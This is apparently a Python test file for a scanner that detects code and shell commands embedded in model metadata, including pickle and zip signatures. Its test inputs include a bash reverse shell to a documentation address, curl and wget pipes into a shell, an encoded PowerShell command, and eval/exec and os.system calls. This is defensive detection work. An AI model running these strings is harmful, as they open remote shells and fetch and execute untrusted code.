"""Payloads in metadata are found by signs that every pattern requires."""

from __future__ import annotations

from agents.checks.artifacts.readers.embedded import report_text
from agents.checks.artifacts.scanning import Scan
from tests.each import each

RULE = "TW-MODEL-METADATA-CODE"


@each(
    "text",
    [
        "x = __import__ ('os')", "os.system ('id')", "os.popen('id')", "subprocess.run(['id'])",
        "exec ('1')", "exec(b'1')", "exec(_x)", "eval('1')", "eval (_x)", "then marshal.loads it",
        "!!python/object", "f.__globals__", "a.__subclasses__", '<!ENTITY x "y">',
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "curl https://index.example/x | sh",
        "wget -qO- https://index.example/x | bash", "powershell.exe -enc SQBFAFgA",
    ],
)  # fmt: skip
def test_code_and_commands_are_reported(text: str) -> None:
    scan = Scan("config.json", lambda *_: None)
    report_text(scan, "key", text)
    assert [found.rule_id for found in scan.detections] == [RULE]


@each(
    ("text", "begins"),
    [
        ("cos\nsystem\n", True), ("c__builtin__\neval\n(", True), ("\x80\x04K\x01.", True),
        ("→\x80\x02K\x01.", True), ("→cos\nsystem\n", True), ("PK\x03\x04 and more text", True),
        ("cosine similarity of two vectors", False), ("words", False), ("", False),
    ],
)  # fmt: skip
def test_text_that_begins_as_a_pickle_does_is_scanned_as_bytes(text: str, begins: bool) -> None:
    descended: list[str] = []
    scan = Scan("config.json", lambda _scan, name, _source: descended.append(name))
    report_text(scan, "key", text)
    assert descended == (["key:text"] if begins else [])
